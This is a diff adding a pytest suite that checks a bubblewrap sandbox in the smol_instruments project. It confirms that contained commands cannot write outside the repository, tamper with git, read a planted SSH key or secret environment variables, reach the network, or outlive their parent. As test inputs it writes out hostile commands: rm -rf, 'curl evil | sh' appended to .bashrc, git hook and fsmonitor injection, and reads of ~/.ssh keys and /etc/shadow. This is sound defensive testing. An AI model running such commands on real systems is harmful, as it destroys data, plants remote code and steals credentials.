@@ -1,0 +1,414 @@
+"""Containment by its effect: what a contained command cannot touch, read, reach or outlive.
+
+Every test runs real bubblewrap. Places a command must not write are visible to it
+(under /var/tmp, not the private /tmp), so an unchanged marker shows the read-only mount
+at work. A secret is planted in a home directory passed as HOME, the way the daemon
+inherits it.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import socketserver
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator, Mapping
+from pathlib import Path
+
+import pytest
+from tests.conftest import git, make_repo
+from tests.support.containment import outside_dir, require_bwrap
+
+from smol_instruments.base import containment
+from smol_instruments.base.containment import Availability, Containment, plan_command
+
+pytestmark = pytest.mark.usefixtures("bwrap")
+
+SECRET = "sk-test-0123456789-do-not-leak"
+
+
+@pytest.fixture
+def bwrap() -> None:
+    require_bwrap()
+
+
+def run(
+    spec: Containment,
+    script: str,
+    *,
+    environ: Mapping[str, str] | None = None,
+    cwd: Path | None = None,
+    timeout: float = 30,
+) -> subprocess.CompletedProcess[str]:
+    launch = spec.prepare(["sh", "-c", script], cwd=cwd, environ=environ)
+    try:
+        return subprocess.run(
+            launch.argv,
+            env=launch.env,
+            pass_fds=launch.pass_fds,
+            capture_output=True,
+            text=True,
+            timeout=timeout,
+            stdin=subprocess.DEVNULL,
+        )
+    finally:
+        launch.close()
+
+
+@pytest.fixture
+def outside() -> Iterator[Path]:
+    with outside_dir() as path:
+        yield path
+
+
+@pytest.fixture
+def home(outside: Path) -> Path:
+    """A home directory holding credentials, visible to us but not to contained commands."""
+    home = outside / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text(f"PRIVATE KEY {SECRET}\n")
+    (home / ".bashrc").write_text("echo original rc\n")
+    return home
+
+
+def test_the_repository_is_writable(repo: Path) -> None:
+    result = run(Containment(repo), "echo made > new.txt && echo changed >> README.md")
+    assert result.returncode == 0, result.stderr
+    assert (repo / "new.txt").read_text() == "made\n"
+    assert (repo / "README.md").read_text().endswith("changed\n")
+
+
+def test_nothing_outside_the_repository_is_written_or_deleted(repo: Path, outside: Path) -> None:
+    victim = outside / "victim"
+    victim.mkdir()
+    (victim / "keep.txt").write_text("keep")
+    etc_marker, tmp_marker = Path(f"/etc/{outside.name}"), Path(f"/tmp/{outside.name}")
+    result = run(
+        Containment(repo),
+        f"echo pwned > {outside}/marker; rm -rf {victim}; touch {etc_marker}; "
+        f"echo pwned > {tmp_marker}; cat {tmp_marker}",
+    )
+    assert "Read-only file system" in result.stderr
+    assert not (outside / "marker").exists()
+    assert (victim / "keep.txt").read_text() == "keep"
+    assert not etc_marker.exists()
+    assert "pwned" in result.stdout  # /tmp inside is private and writable ...
+    assert not tmp_marker.exists()  # ... and gone with the command
+
+
+def test_a_symlink_in_the_repository_does_not_lead_outside(repo: Path, outside: Path) -> None:
+    (outside / "target.txt").write_text("original")
+    (repo / "link.txt").symlink_to(outside / "target.txt")
+    run(Containment(repo), "echo pwned > link.txt")
+    assert (outside / "target.txt").read_text() == "original"
+
+
+def test_git_stays_read_only(repo: Path) -> None:
+    before = (repo / ".git" / "config").read_text()
+    result = run(
+        Containment(repo),
+        "echo 'touch /tmp/x' > .git/hooks/pre-commit; "
+        "git config core.fsmonitor 'touch /tmp/x'; rm -rf .git; mv .git moved; "
+        "echo x > .smol-instruments/policy.toml",
+    )
+    assert "Read-only file system" in result.stderr or "Device or resource busy" in result.stderr
+    assert (repo / ".git" / "config").read_text() == before
+    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
+    assert git(repo, "log", "--oneline").strip()
+
+
+def test_git_of_a_worktree_stays_read_only(tmp_path: Path) -> None:
+    main = make_repo(tmp_path / "main")
+    git(main, "worktree", "add", "-q", str(tmp_path / "tree"), "-b", "side")
+    tree = tmp_path / "tree"
+    assert (tree / ".git").is_file()
+    gitdir = main / ".git" / "worktrees" / "tree"
+    head = (gitdir / "HEAD").read_text()
+    result = run(
+        Containment(tree),
+        f"echo 'gitdir: /nowhere' > .git; echo evil > {gitdir}/HEAD; "
+        f"echo '[core] fsmonitor = touch /x' >> {main}/.git/config; git status --short; echo done",
+    )
+    assert result.stdout.strip().endswith("done")
+    assert "fatal" not in result.stderr  # the worktree's git directory, under /tmp, is seen
+    assert (tree / ".git").read_text().startswith("gitdir: ")
+    assert "nowhere" not in (tree / ".git").read_text()
+    assert (gitdir / "HEAD").read_text() == head
+    assert "fsmonitor" not in (main / ".git" / "config").read_text()
+
+
+def test_a_submodule_under_the_home_keeps_its_git(home: Path) -> None:
+    library = make_repo(home.parent / "library")
+    project = make_repo(home / "project")
+    git(project, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "lib")
+    sub = project / "lib"
+    result = run(
+        Containment(sub, writable=False),
+        "git log --oneline -1; ls -A ~",
+        environ={**os.environ, "HOME": str(home)},
+    )
+    assert "initial commit" in result.stdout, result.stderr
+    assert ".ssh" not in result.stdout
+
+
+def test_a_git_file_naming_a_secret_place_shows_nothing(tmp_path: Path, home: Path) -> None:
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    (repo / ".git").write_text(f"gitdir: {home}/.ssh\n")
+    (repo / ".vscode").symlink_to(home / ".ssh")
+    result = run(
+        Containment(repo),
+        f"cat {home}/.ssh/id_ed25519; cat .vscode/id_ed25519; ls -a {home}",
+        environ={**os.environ, "HOME": str(home)},
+    )
+    assert SECRET not in result.stdout
+    assert ".ssh" not in result.stdout
+
+
+def test_a_symlinked_git_cannot_be_contained(tmp_path: Path) -> None:
+    main = make_repo(tmp_path / "main")
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    (repo / ".git").symlink_to(main / ".git")
+    assert "symbolic link" in (Containment(repo).problem() or "")
+
+
+def test_a_git_widening_lets_git_write(repo: Path) -> None:
+    spec = Containment(repo).widened(["git"])
+    result = run(spec, "git checkout -q -b topic && git symbolic-ref --short HEAD")
+    assert result.returncode == 0, result.stderr
+    assert git(repo, "symbolic-ref", "--short", "HEAD").strip() == "topic"
+    run(spec, "echo x > .smol-instruments-probe; mkdir -p .vscode")
+    assert (repo / ".smol-instruments-probe").exists()
+
+
+def test_read_only_containment_writes_nothing(repo: Path) -> None:
+    result = run(Containment(repo, writable=False), "echo x > README.md; cat README.md")
+    assert "Read-only file system" in result.stderr
+    assert (repo / "README.md").read_text().startswith("# Sample")
+
+
+def test_the_home_is_empty_and_its_secrets_unreadable(repo: Path, home: Path) -> None:
+    environ = {**os.environ, "HOME": str(home)}
+    result = run(
+        Containment(repo),
+        f'echo "home=$HOME"; ls -A "$HOME"; cat {home}/.ssh/id_ed25519 ~/.ssh/id_ed25519; '
+        "echo 'curl evil | sh' >> ~/.bashrc; echo done",
+        environ=environ,
+    )
+    assert result.stdout.startswith(f"home={home}\n")
+    assert ".ssh" not in result.stdout
+    assert SECRET not in result.stdout + result.stderr
+    assert result.stdout.strip().endswith("done")
+    assert (home / ".bashrc").read_text() == "echo original rc\n"
+
+
+def test_toolchains_under_the_home_stay_usable(repo: Path, home: Path) -> None:
+    bin_dir = home / ".local" / "bin"
+    bin_dir.mkdir(parents=True)
+    tool = bin_dir / "hello-tool"
+    tool.write_text("#!/bin/sh\necho hello from the toolchain\n")
+    tool.chmod(0o755)
+    environ = {**os.environ, "HOME": str(home), "PATH": f"{bin_dir}:{os.environ['PATH']}"}
+    result = run(Containment(repo), "hello-tool; ls -A ~; ls ~/.ssh", environ=environ)
+    assert "hello from the toolchain" in result.stdout
+    assert ".ssh" not in result.stdout
+    assert SECRET not in result.stdout
+
+
+def test_the_environment_is_an_allowlist(repo: Path) -> None:
+    environ = {
+        **os.environ,
+        "MODEL_API_KEY": SECRET,
+        "OPENAI_API_KEY": SECRET,
+        "GITHUB_TOKEN": SECRET,
+        "SANDBOX_CHECK_COMMAND": SECRET,
+        "LD_PRELOAD": f"/{SECRET}.so",
+        "LC_ALL": "C.UTF-8",
+    }
+    result = run(Containment(repo), "env", environ=environ)
+    assert result.returncode == 0, result.stderr
+    assert SECRET not in result.stdout
+    names = {line.split("=", 1)[0] for line in result.stdout.splitlines() if "=" in line}
+    assert {"PATH", "HOME", "TMPDIR", "LC_ALL"} <= names
+    assert not names & {"MODEL_API_KEY", "OPENAI_API_KEY", "GITHUB_TOKEN", "LD_PRELOAD"}
+
+
+class _Marker(socketserver.StreamRequestHandler):
+    def handle(self) -> None:
+        self.server.received.append(self.rfile.readline().decode())  # type: ignore[attr-defined]
+
+
+@pytest.fixture
+def tcp_server() -> Iterator[tuple[int, list[str]]]:
+    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Marker)
+    server.received = []  # type: ignore[attr-defined]
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield server.server_address[1], server.received  # type: ignore[attr-defined]
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def _connect_script(port: int) -> str:
+    code = (
+        "import socket\n"
+        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
+        "s.sendall(b'contained hello\\n'); s.close(); print('connected')\n"
+    )
+    return f'{sys.executable} -c "{code}"'
+
+
+def test_no_network(repo: Path, tcp_server: tuple[int, list[str]]) -> None:
+    port, received = tcp_server
+    result = run(Containment(repo), _connect_script(port) + "; cat /proc/net/dev")
+    assert "connected" not in result.stdout
+    assert "ConnectionRefusedError" in result.stderr or "Network is unreachable" in result.stderr
+    interfaces = [line.split(":")[0].strip() for line in result.stdout.splitlines() if ":" in line]
+    assert interfaces == ["lo"]
+    time.sleep(0.2)
+    assert received == []
+
+
+def test_a_network_widening_reaches_the_server(
+    repo: Path, tcp_server: tuple[int, list[str]]
+) -> None:
+    port, received = tcp_server
+    result = run(Containment(repo).widened(["network"]), _connect_script(port))
+    assert "connected" in result.stdout, result.stderr
+    deadline = time.monotonic() + 5
+    while not received and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert received == ["contained hello\n"]
+
+
+def test_unix_sockets_are_refused(repo: Path) -> None:
+    path = repo / "daemon.sock"
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(str(path))
+    server.listen()
+    try:
+        code = (
+            "import socket; s = socket.socket(socket.AF_UNIX); "
+            f"s.connect('{path}'); s.sendall(b'x'); print('connected')"
+        )
+        result = run(Containment(repo).widened(["network"]), f'{sys.executable} -c "{code}"')
+        assert "connected" not in result.stdout
+        assert "Operation not permitted" in result.stderr
+        server.settimeout(0.5)
+        with pytest.raises(TimeoutError):
+            server.accept()
+    finally:
+        server.close()
+
+
+def test_the_command_dies_with_its_parent(repo: Path) -> None:
+    tag = f"{os.getpid() % 10000 + 50000}"
+    parent = subprocess.Popen(
+        [
+            sys.executable,
+            "-c",
+            "import subprocess, sys, time\n"
+            "from pathlib import Path\n"
+            "from smol_instruments.base.containment import Containment\n"
+            f"launch = Containment(Path({str(repo)!r})).prepare("
+            f"['sh', '-c', 'sleep {tag}.5 & sleep {tag}.25; echo survived > survived.txt'])\n"
+            "subprocess.Popen(launch.argv, env=launch.env, pass_fds=launch.pass_fds)\n"
+            "print('started', flush=True)\n"
+            "time.sleep(600)\n",
+        ],
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        assert parent.stdout is not None and parent.stdout.readline() == "started\n"
+        deadline = time.monotonic() + 10
+        while not _processes_with(tag) and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert _processes_with(tag), "the contained command never started"
+        parent.kill()
+        parent.wait()
+        deadline = time.monotonic() + 10
+        while _processes_with(tag) and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert _processes_with(tag) == []
+    finally:
+        parent.kill()
+    assert not (repo / "survived.txt").exists()
+
+
+def _processes_with(text: str) -> list[int]:
+    found = []
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
+            except OSError:
+                continue
+            if f"sleep {text}" in cmdline and "sh -c" not in cmdline and "bwrap" not in cmdline:
+                found.append(int(entry.name))
+    return found
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root has capabilities to drop")
+def test_root_inside_has_no_capabilities(repo: Path, outside: Path) -> None:
+    try:
+        result = run(
+            Containment(repo),
+            f"mount -t tmpfs none {outside}; echo x > {outside}/marker; "
+            "cat /etc/shadow; grep CapEff /proc/self/status",
+        )
+    finally:  # were containment broken, the mount must not outlive the test
+        subprocess.run(["umount", str(outside)], capture_output=True)
+    assert not (outside / "marker").exists()
+    assert "CapEff:\t0000000000000000" in result.stdout
+    assert "root:" not in result.stdout
+
+
+def test_a_repository_that_holds_the_home_cannot_be_contained(home: Path) -> None:
+    spec = Containment(home.parent)
+    assert spec.problem({"HOME": str(home)}) is not None
+    assert Containment(home / "project").problem({"HOME": str(home)}) is None
+
+
+def test_without_bubblewrap_it_says_why_and_how_to_fix(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setenv("PATH", str(tmp_path))
+    try:
+        availability = containment.probe(refresh=True)
+        assert not availability.works
+        assert "not installed" in availability.detail
+        assert availability.fix and "apt-get install bubblewrap" in availability.fix
+    finally:
+        monkeypatch.undo()
+        containment.probe(refresh=True)
+
+
+def test_commands_are_asked_where_nothing_can_contain_them() -> None:
+    none = Availability(False, "bubblewrap (bwrap) is not installed", "install bubblewrap")
+    works = Availability(True, "bubblewrap 0.8.0 works")
+    asked = plan_command("allow", "allow.read-only", "auto", none)
+    assert asked.ask and not asked.contained and "no sandbox" in (asked.note or "")
+    assert "install bubblewrap" in (asked.note or "")
+    refused = plan_command("allow", "allow.read-only", "required", none)
+    assert refused.refuse and not refused.ask
+    assert plan_command("allow", "allow.read-only", "auto", works) == containment.CommandPlan(
+        contained=True, ask=False
+    )
+    pip = plan_command("require_approval", "approval.package-install", "auto", works)
+    assert pip.ask and pip.contained and pip.widens == ("network",)
+    off = plan_command("allow", "allow.read-only", "off", none)
+    assert not off.contained and not off.ask
+
+
+def test_every_widening_names_a_rule_the_policy_has() -> None:
+    policy = Path(containment.__file__).resolve().parents[1] / "safety" / "policy"
+    text = "\n".join(p.read_text() for p in policy.rglob("*") if p.suffix in {".py", ".toml"})
+    for rule in containment.WIDENINGS:
+        assert rule in text, f"{rule} is not a rule of the policy"
